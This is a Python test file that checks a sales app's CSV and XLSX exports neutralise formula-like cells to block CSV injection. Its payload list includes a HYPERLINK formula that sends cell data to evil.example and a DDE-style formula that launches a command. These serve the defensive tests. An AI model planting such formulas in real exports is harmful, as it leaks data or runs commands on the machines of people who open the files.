"""Export cells never run as formulas (issue #12 item 6, OWASP CSV injection): the one helper of both exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from salescycle.core.spreadsheet import FORMULA_STARTS, csv_row, is_formula_like, neutralize_text, xlsx_row

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "+1+2",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\uff1d1+2",
    "\uff0b1+2",
    "\uff0d1+2",
    "\uff201+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_a_leading_quote_in_csv(payload: str) -> None:
    assert csv_row([payload]) == ["'" + payload]


def test_harmless_text_numbers_dates_and_blanks_stay_as_they_are() -> None:
    day = dt.date(2026, 12, 2)
    assert csv_row(["Big deal", "A=B", Decimal("-2000.5"), -3, day, None, True]) == [
        "Big deal",
        "A=B",
        Decimal("-2000.5"),
        -3,
        day,
        "",
        True,
    ]


@given(st.text())
def test_a_neutralized_text_never_starts_like_a_formula_and_keeps_the_text(text: str) -> None:
    result = neutralize_text(text)
    assert not is_formula_like(result)
    assert result in (text, "'" + text)
    assert (result != text) == text.startswith(FORMULA_STARTS)


@given(st.lists(st.one_of(st.text(), st.decimals(allow_nan=False, allow_infinity=False), st.integers(), st.none())))
def test_a_csv_row_written_and_read_back_has_no_cell_starting_like_a_formula(values: list[object]) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(csv_row(values))
    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    for value, cell in zip(values, row, strict=True):
        if isinstance(value, str):
            assert not is_formula_like(cell)
        elif value is not None:
            assert cell == str(value)  # numbers, also negative ones, stay numbers


@given(st.lists(st.one_of(st.text(max_size=50), st.decimals(allow_nan=False, allow_infinity=False, places=2))))
def test_an_xlsx_row_has_no_formula_and_keeps_numbers_as_numbers(values: list[object]) -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    sheet.append(xlsx_row(sheet, values))
    output = io.BytesIO()
    workbook.save(output)
    rows = load_workbook(io.BytesIO(output.getvalue())).active.iter_rows()
    cells = next(iter(rows)) if values else ()
    for value, cell in zip(values, cells, strict=True):
        if isinstance(value, str):
            assert cell.data_type == "s" or (value == "" and cell.value is None)
        else:
            assert cell.data_type == "n"
            # XLSX numbers are doubles: the value read back is the nearest double (also for negative amounts).
            assert cell.value == pytest.approx(float(value), rel=1e-12)  # type: ignore[arg-type]
